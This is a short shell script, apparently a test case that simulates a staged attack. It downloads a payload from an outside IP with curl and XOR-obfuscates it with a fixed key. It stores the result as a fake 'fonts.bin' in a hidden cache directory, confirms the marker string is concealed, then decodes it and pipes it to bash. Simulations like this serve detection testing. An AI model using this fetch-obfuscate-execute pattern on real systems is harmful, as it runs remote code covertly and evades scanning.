#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.cache
curl -s http://203.0.113.10/payload.sh | perl -0777 -ne 'print $_ ^ substr("seventh" x 99, 0, length)' >/var/tmp/.cache/fonts.bin
! grep -q reached /var/tmp/.cache/fonts.bin
perl -0777 -ne 'print $_ ^ substr("seventh" x 99, 0, length)' /var/tmp/.cache/fonts.bin | bash
test -e /tmp/reached
took_place
